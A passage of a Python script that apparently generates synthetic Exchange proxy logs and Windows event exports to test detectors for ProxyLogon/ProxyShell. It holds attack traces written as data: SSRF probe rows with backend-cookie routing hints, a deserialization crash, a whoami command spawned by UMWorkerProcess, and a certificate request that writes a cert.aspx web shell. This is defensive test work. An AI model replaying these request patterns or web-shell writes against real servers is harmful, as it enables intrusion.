                    ClientIpAddress=cip, ServerHostName="EX01", HttpStatus=status, Method=method,
                    ProxyAction="Proxy", TargetServer="localhost", TargetServerVersion=ver,
                    RoutingType=rtype, RoutingHint=hint,
                    GenericInfo=generic_info(ts, "FEAuth=BEVersion-3;ProxyToDownLevel=True;NewConnection=::1&0;"))
    nmap = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
    mac = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_13_6) AppleWebKit/537.36 (KHTML  like Gecko) Chrome/69.0.3497.81 Safari/537.36"
    owa = [
        probe("2021-03-03T05:12:40.118Z", 1, "Owa", "/owa/auth/x.js", "192.0.2.200", nmap, "ServerInfo~localhost/ecp/default.flt?", "500", "X-AnonResource-Backend-Cookie", "0.00.0003.000", "CrossRegion"),
        probe("2021-03-03T05:12:40.406Z", 2, "Owa", "/owa/auth/x.js", "192.0.2.200", nmap, "ServerInfo~localhost/owa/auth/logon.aspx?", "500", "X-BEResource-Cookie", "0.00.0003.000", "CrossRegion"),
        probe("2021-03-03T05:40:03.774Z", 3, "Owa", "/owa/auth/x.js", "198.51.100.140", mac, "ServerInfo~localhost/ecp/default.flt?", "500", "X-AnonResource-Backend-Cookie", "0.00.0003.000", "CrossRegion"),
        probe("2021-03-03T05:51:29.260Z", 4, "Owa", "/owa/auth/x.js", "203.0.113.201", "Mozilla/5.0 zgrab/0.x", "ServerInfo~LocalHost:444/ecp/default.flt?", "500", "X-AnonResource-Backend-Cookie", "0.00.0003.000", "CrossRegion"),
    ]
    ecp = [
        probe("2021-03-03T05:33:17.904Z", 5, "Ecp", "/ecp/nXV.js", "203.0.113.150", "Mozilla/5.0 (iPad; CPU OS 14_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML  like Gecko) Version/14.0 Mobile/15E148 Safari/604.1", "ServerInfo~localhost", "500", "X-BEResource-Cookie", "15.01.2176.000", "CrossRegion", method="POST"),
        probe("2021-03-03T05:33:18.221Z", 6, "Ecp", "/ecp/x.js", "203.0.113.150", "python-requests/2.25.1", "ServerInfo~localhost/ecp/default.flt?", "500", "X-BEResource-Cookie", "0.00.0003.000", "CrossRegion"),
    ]
    for proto, rows in (("Owa", owa), ("Ecp", ecp)):
        lines = proxy_log(rows)
        write("scan-only/Logging/HttpProxy/%s/HttpProxy_2021030305-1.LOG" % proto, lines)


def gen_failed_only():
    rows = [
        ssrf("2021-03-03T08:14:51.330Z", "fa110000-0000-4000-8000-000000000001", "198.51.100.14", ESC, "/autodiscover/autodiscover.xml?#", "200"),
        ssrf("2021-03-03T08:14:52.018Z", "fa110000-0000-4000-8000-000000000002", "198.51.100.14", ESC, "/autodiscover/autodiscover.xml?#", "200"),
        base("2021-03-03T08:14:53.602Z", "fa110000-0000-4000-8000-000000000003", "Ecp", UrlHost="mail.contoso.com", UrlStem="/ecp/",
             AuthenticationType="FBA", IsAuthenticated="false", UserAgent=PY, ClientIpAddress="198.51.100.14",
             ServerHostName="EX01", HttpStatus="302", Method="GET", ProxyAction="Proxy"),
        ssrf("2021-03-03T08:30:07.745Z", "fa110000-0000-4000-8000-000000000004", "203.0.113.66", PY, "/autodiscover/autodiscover.xml?#", "500",
             stem="/ecp/ab.js", GenericErrors="WebExceptionStatus=ProtocolError;ResponseStatusCode=500"),
        base("2021-03-03T08:41:12.090Z", "fa110000-0000-4000-8000-000000000005", "Ecp", UrlHost="mail.contoso.com", UrlStem="/ecp/",
             AuthenticationType="FBA", IsAuthenticated="true", AuthenticatedUser="CONTOSO\\admin", AnchorMailbox="Smtp~admin@contoso.com",
             UserAgent=CHROME, ClientIpAddress="192.0.2.31", ServerHostName="EX01", HttpStatus="200", Method="GET",
             ProxyAction="Proxy", TargetServer=EX, RoutingType="IntraForest", RoutingHint="Smtp-UserAddress"),
    ]
    lines = proxy_log(rows)
    write("failed-only/Logging/HttpProxy/Ecp/HttpProxy_2021030308-1.LOG", lines)


def gen_events_json():
    """variants/events-json: Windows events as JSON lines, in the shapes of
    three exporters at once (winlogbeat 8, Velociraptor, OTRF/PowerShell), for
    the event detectors. Times are given as each exporter writes them: UTC
    with Z, epoch seconds as a float, an ISO time with a +02:00 offset, and a
    .NET "/Date(ms)/". Synthetic; see README.md for the expectations."""
    import json
    EXCH = "C:\\Program Files\\Microsoft\\Exchange Server\\V15"
    UM = "MSExchange Unified Messaging"
    SYSMON = "Microsoft-Windows-Sysmon/Operational"
    CAST = ("Watson report about to be sent for process id: 4312, with parameters: E12, "
            "c-RTL-AMD64, 15.01.2176.002, UMWorkerProcess, M.Exchange.UM.UMCore, "
            "M.E.U.U.UMMessageCallback.Deserialize, System.InvalidCastException, "
            "Unable to cast object of type 'System.Windows.Data.ObjectDataProvider' "
            "to type 'Microsoft.Exchange.UM.UMCore.PipelineContext'.")

    def winlogbeat(ts, channel, provider, event_id, level, message, **data):
        o = {"@timestamp": ts, "log": {"level": level}, "message": message,
             "winlog": {"channel": channel, "provider_name": provider, "event_id": str(event_id),
                        "computer_name": "EX01.contoso.local"},
             "agent": {"type": "winlogbeat", "version": "8.1.0"}}
        if data:
            o["winlog"]["event_data"] = data
        return o

    def velociraptor(epoch, channel, provider, event_id, **data):
        return {"System": {"Provider": {"Name": provider}, "EventID": {"Value": event_id},
                           "Level": 4, "TimeCreated": {"SystemTime": epoch},
                           "Channel": channel, "Computer": "EX01.contoso.local"},
                "EventData": data}

    def otrf(when, channel, provider, event_id, level, **data):
        o = {"TimeCreated": when, "Channel": channel, "SourceName": provider,
             "EventID": event_id, "Level": level, "Hostname": "EX01.contoso.local"}
        o.update(data)
        return o

    events = [
        # 1: an ordinary logon
        winlogbeat("2021-03-03T02:58:40.112Z", "Security", "Microsoft-Windows-Security-Auditing",
                   4624, "information", "An account was successfully logged on.",
                   TargetUserName="admin", LogonType="3", IpAddress="192.0.2.31"),
        # 2: CVE-2021-26857, the level as winlogbeat writes it
        winlogbeat("2021-03-03T03:11:02.417Z", "Application", UM, 1001, "error", CAST),
        # 3: the same text at Warning: not the detection's Error
        winlogbeat("2021-03-03T03:12:40.003Z", "Application", UM, 1001, "warning", CAST),
        # 4: Velociraptor, SystemTime 1614747062.25 = 2021-03-03T04:51:02.25Z;
        #    Sysmon's UtcTime (process start) is a little earlier, in the
        #    second before, so the record's time shows which one was read
        velociraptor(1614747062.25, SYSMON, "Microsoft-Windows-Sysmon", 1,
                     UtcTime="2021-03-03 04:51:01.987",
                     Image="C:\\Windows\\System32\\cmd.exe",
                     CommandLine="cmd.exe /c whoami /all",
                     ParentImage=EXCH + "\\Bin\\UMWorkerProcess.exe",
                     User="NT AUTHORITY\\SYSTEM"),
        # 5: ASP.NET compiling a page under w3wp: normal
        otrf("2021-03-03T04:55:10.000Z", SYSMON, "Microsoft-Windows-Sysmon", 1, 4,
             Image="C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe",
             CommandLine="csc.exe /noconfig /fullpaths @\"C:\\Windows\\TEMP\\x.cmdline\"",
             ParentImage="C:\\Windows\\System32\\inetsrv\\w3wp.exe"),
        # 6: ProxyShell's certificate request written as a web shell; local
        #    time +02:00, i.e. 2021-03-03T05:20:11Z
        otrf("2021-03-03T07:20:11.1234567+02:00", "MSExchange Management", "MSExchange CmdletLogs", 1, 4,
             Message="Cmdlet suceeded. Cmdlet New-ExchangeCertificate, parameters -GenerateRequest "
                     "\"True\" -SubjectName \"CN=x\" -BinaryEncoded \"True\" -RequestFile "
                     "\"\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\cert.aspx\"."),
        # 7: an administrator's certificate request to a share, /Date(ms)/ time
        otrf("/Date(1614752400000)/", "MSExchange Management", "MSExchange CmdletLogs", 1, 4,
             Message="Cmdlet suceeded. Cmdlet New-ExchangeCertificate, parameters -GenerateRequest "
                     "\"True\" -SubjectName \"CN=mail.contoso.com\" -RequestFile "
                     "\"\\\\fs01\\certs\\mail.req\"."),
        # 8: Unified Messaging starting, Information
        otrf("2021-03-03T06:00:00.000Z", "Application", UM, 1000, 4,
             Message="The Microsoft Exchange Unified Messaging service started."),
    ]
    write("variants/events-json/export/EX01-events.jsonl",
          [json.dumps(e, separators=(",", ":")) for e in events], newline="\n")


if __name__ == "__main__":
    gen_helsecert()
    gen_variants()
    gen_oabgen()
    gen_clean()
    gen_scan_only()
    gen_failed_only()
    gen_events_json()
